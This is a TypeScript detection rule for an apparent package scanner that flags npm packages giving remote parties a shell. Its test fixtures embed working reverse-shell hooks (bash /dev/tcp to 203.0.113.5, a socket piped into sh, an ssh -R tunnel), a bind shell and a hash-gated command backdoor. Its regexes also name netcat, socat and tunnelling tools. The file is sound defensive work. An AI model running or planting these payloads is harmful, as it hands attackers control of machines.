import { Buffer } from 'node:buffer'
import { HOLE } from '../lib/types.ts'
import type { Action, Fact, Flow, Inspection, Rule, Text } from '../lib/types.ts'
import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
import { unasked } from './behaviour/written.ts'
import { findingAt, findingOfFlow, opening, quote, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'

type Starts = Extract<Fact, { kind: 'starts' }>

/** A shell whose input and output are somebody else's. */
export const socketShell: Rule = {
  meta: {
    id: 'socket-shell',
    title: 'Gives somebody else a shell on this machine',
    severity: 'critical',
    description:
      'A shell or interpreter is started and connected to a network socket: whoever answers at the other end types ' +
      'commands here and reads what they print. No library needs that; terminals for the browser let their own caller ' +
      'decide who connects.',
    references: ['1337qq-js, rpc-websocket (2019-20)', 'getpackage and 50 reverse shells of 2026'],
    blindSpots: ['Commands that are polled and run one by one: see remote-code.'],
    examples: {
      flags: [
        {
          title: 'a hook opens /dev/tcp',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","scripts":{"preinstall":"bash -c \\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\\""}}',
          },
        },
        {
          title: 'a module pipes a socket into sh',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const sh = require('child_process').spawn('/bin/sh', [])\n" +
              "const c = require('net').connect(4444, '203.0.113.5', () => {\n  c.pipe(sh.stdin)\n  sh.stdout.pipe(c)\n})\n",
          },
        },
        {
          title: 'a hook opens the port of the shell server at a stranger’s machine',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"ssh -f -N -R 0:localhost:22 a@tunnel.invalid"}}',
          },
        },
        {
          title: 'a port that gives whoever connects a shell',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "require('net').createServer(socket => {\n  const sh = require('child_process').spawn('bash', ['-i'])\n  socket.pipe(sh.stdin)\n  sh.stdout.pipe(socket)\n}).listen(4444)\n",
          },
        },
        {
          title: 'a task that runs a command of whoever knows a word',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { createHash } = require('crypto')\n" +
              "exports.probe = task => {\n  if (createHash('md5').update(task.word).digest('hex') !== '9e107d9d372bb6826bd81d3542a419d6') return\n" +
              "  require('child_process').exec(task.line)\n}\n",
          },
        },
      ],
      passes: [
        {
          title: 'a tool that starts what its caller names, after a look at the hash of a file of its own',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { createHash } = require('crypto')\nconst { execFile } = require('child_process')\n" +
              "exports.run = (file, args) => {\n  const bytes = require('fs').readFileSync(file)\n" +
              "  if (createHash('md5').update(bytes).digest('hex') !== '9e107d9d372bb6826bd81d3542a419d6') throw new Error('damaged')\n" +
              '  return execFile(file, args)\n}\n',
          },
        },
        {
          title: 'a program is given what the caller passes',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { spawn } = require('child_process')\nexports.run = text => {\n  const sh = spawn('sh')\n  sh.stdin.end(text)\n  return sh.stdout\n}\n",
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const found = new Map<string, RuleFinding>()
    const add = (finding: RuleFinding): void => {
      const key = `${finding.location.path}:${finding.location.line}`
      if (!found.has(key)) found.set(key, finding)
    }
    for (const flow of inspection.flows) {
      const to = socketOf(flow)
      if (to === undefined) continue
      const place = placeOf(to, inspection, context)
      if (place.kind === 'local') continue
      const action = weigh(flow, isStranger(place), place.kind === 'capture', isBothWays(flow, inspection))
      const where = place.host?.shown ?? 'an address computed at run time'
      const message =
        `${opening(flow)} connects a shell (${shellOf(flow)}) to ${where}, ${placeInWords(place)}: ` +
        'whoever is there can run commands on this machine. Do not install it.'
      add(findingOfFlow(flow, { action, severity: severityOf(action), message }))
    }
    for (const flow of inspection.flows)
      for (const one of [...ofListener(flow), ...ofWatchword(flow)]) add(one)
    for (const fact of inspection.facts) {
      if (fact.kind === 'starts') for (const one of ofCommand(fact)) add(one)
      if (fact.kind === 'contacts') for (const one of ofDevice(fact, inspection)) add(one)
    }
    return [...found.values()]
  },
}

const shell =
  /(?:^|[/\\\s"'])(?:(?:ba|da|z|k|c)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|python[0-9.]*)(?:\s|$|")/i

/** Both directions: what the socket says goes in, or what the shell prints goes out. */
function socketOf({ source, sink }: Flow): readonly Text[] | undefined {
  if (sink.kind === 'command-stdin' && source.kind === 'network' && sink.destinations.some(isBareShell))
    return [source.name]
  if (sink.kind === 'network' && source.kind === 'command-output' && isBareShell(source.name))
    return sink.destinations
  return undefined
}

/** What takes a whole command line or a program. */
const runs =
  /(?:^node:child_process\.exec(?:Sync)?|\.(?:execaCommand|runIn\w*Context)|^global:(?:eval|Function))$/

/** What somebody passes is run where something else they pass hashes to what stands in the code: a way in. */
function ofWatchword(flow: Flow): readonly RuleFinding[] {
  const { source, sink, guards, phase, certain } = flow
  const runsIt =
    (sink.kind === 'command' && sink.role === 'command' && sink.destinations.every(isUnknown)) ||
    sink.kind === 'evaluate'
  if (!runsIt || !runs.test(sink.api) || phase === 'dormant' || !certain) return []
  if (source.kind !== 'caller' || !guards.some(({ kind }) => kind === 'digest')) return []
  const message =
    `${opening(flow)} runs ${quote(source.name)} as a command (${sink.api}) where a word given with it hashes to one in ` +
    'the code: whoever knows that word can run commands on this machine. Do not install it.'
  return [findingOfFlow(flow, { action: 'ask', severity: severityOf('ask'), message })]
}

function isUnknown(command: Text): boolean {
  return command.replaceAll(HOLE, '').trim() === ''
}

/** A shell without a command: it waits for one. */
function isBareShell(command: Text): boolean {
  return (
    shell.test(command) &&
    /^\S+(?:\s+-[a-z]{1,3}|\s+\/[a-z])?\s*$/i.test(command.trim()) &&
    !/\s-[a-z]*c\b/i.test(command)
  )
}

function shellOf({ source, sink }: Flow): string {
  return quote((sink.kind === 'network' ? source.name : sink.destinations.find(isBareShell)) ?? 'sh')
}

function weigh(flow: Flow, stranger: boolean, capture: boolean, both: boolean): Action {
  if (!flow.byCall && flow.phase !== 'run') return flow.certain ? 'block' : 'ask'
  if (capture) return flow.certain ? 'block' : 'ask'
  // Who shares a terminal through a server names that server where users read it; the shell types and prints there.
  if (stranger && both) return flow.certain ? 'block' : 'ask'
  return stranger ? 'ask' : 'note'
}

/** What the connection says goes into the very shell whose output goes back to it. */
function isBothWays({ source, sink }: Flow, { flows }: Inspection): boolean {
  const started = sink.kind === 'command-stdin' ? sink.destinations : [source.name]
  return flows.some(
    other =>
      other.certain &&
      (sink.kind === 'command-stdin'
        ? other.sink.kind === 'network' &&
          other.source.kind === 'command-output' &&
          started.includes(other.source.name) &&
          other.sink.destinations.includes(source.name)
        : other.sink.kind === 'command-stdin' &&
          other.source.kind === 'network' &&
          other.sink.destinations.some(text => started.includes(text)) &&
          sink.destinations.includes(other.source.name)),
  )
}

/** A server that gives whoever connects a shell. One that a program opens on purpose asks who they are. */
function ofListener(flow: Flow): readonly RuleFinding[] {
  const { source, sink } = flow
  if (flow.byCall || flow.phase === 'run' || flow.phase === 'dormant') return []
  if (source.kind !== 'caller' || !source.name.startsWith('request ') || sink.kind !== 'command-stdin')
    return []
  if (!sink.destinations.some(isBareShell)) return []
  const action = flow.certain ? 'block' : 'ask'
  const message =
    `${opening(flow)} waits for connections and gives whoever connects a shell (${shellOf(flow)}): ` +
    'they can run commands on this machine. Do not install it.'
  return [findingOfFlow(flow, { action, severity: severityOf(action), message })]
}

type Contacts = Extract<Fact, { kind: 'contacts' }>

/** A shell's own socket, `/dev/tcp/host/port`, beside commands nobody wrote down: they come from there. */
function ofDevice(fact: Contacts, inspection: Inspection): readonly RuleFinding[] {
  if (!fact.api.startsWith('/dev/')) return []
  const obeys = inspection.facts.some(
    other =>
      other.kind === 'starts' &&
      other.at.path === fact.at.path &&
      Math.abs(other.at.line - fact.at.line) <= 3 &&
      other.commands.some(command => command.trimStart().startsWith(HOLE)),
  )
  if (!obeys) return []
  const action: Action = fact.phase === 'run' && fact.byCall ? 'ask' : 'block'
  const message =
    `${opening(fact)} connects a shell to ${quote(fact.destinations[0] ?? fact.api)} and runs commands that stand ` +
    'nowhere in it: whoever is at the other end can run them on this machine. Do not install it.'
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}

/** Shells have their own ways to a socket. */
const redirected = [
  /\/dev\/(?:tcp|udp)\/\S+/,
  /\b(?:nc|ncat|netcat)\b[^|;&]*\s-[a-z]*[ec]\b/,
  /\bsocat\b.*\bexec:/i,
  /\bmkfifo\b.*\b(?:nc|ncat|netcat|telnet|openssl)\b/s,
  /\bNew-Object\s+(?:System\.)?Net\.Sockets\.TCPClient\b/i,
  /\bpty\.spawn\b|\bsocket\.socket\b.*\b(?:dup2|subprocess)\b/s,
]

/** What PowerShell is given encoded. */
function decoded(command: Text): string {
  const text = /\s[-/]e(?:c|nc?\w{0,20})?\s+["']?([A-Za-z0-9+/=]{40,20000})/i.exec(command)?.[1]
  return text === undefined ? '' : Buffer.from(text, 'base64').toString('utf16le')
}

/** A way in from outside: a port of this machine that is opened at the other end. */
const tunnels =
  /\b(?:auto)?ssh(?:\.exe)?\s(?:.*\s)?-(?:[a-zA-Z]*R\s*\S|-?o\s*RemoteForward)|\bchisel\s+client\b.*\bR:|\bngrok\s+tcp\b|\bcloudflared\s+(?:access|tunnel)\b.*\b(?:tcp|ssh):|\bfrpc\s+-c\b|\btailscale\s+up\b.*--ssh\b|\btmate\s+-F\b|\bgs-netcat\b/

function ofCommand(fact: Starts): readonly RuleFinding[] {
  const opened = unasked(fact) ? fact.commands.find(text => tunnels.test(text)) : undefined
  if (opened !== undefined) {
    const message =
      `${opening(fact)} runs ${quote(opened, 160)}, which lets whoever is at the other end reach this machine. ` +
      'Do not install it.'
    return [findingAt(fact.at, fact.phase, { action: 'block', severity: 'critical', message })]
  }
  const command = fact.commands.find(text =>
    [text, decoded(text)].some(one => redirected.some(pattern => pattern.test(one))),
  )
  if (command === undefined) return []
  const action = fact.phase === 'run' && fact.byCall ? 'ask' : 'block'
  const message =
    `${opening(fact)} runs ${quote(command, 120)}, which ties a shell to a network connection: ` +
    'whoever is at the other end can run commands on this machine. Do not install it.'
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}
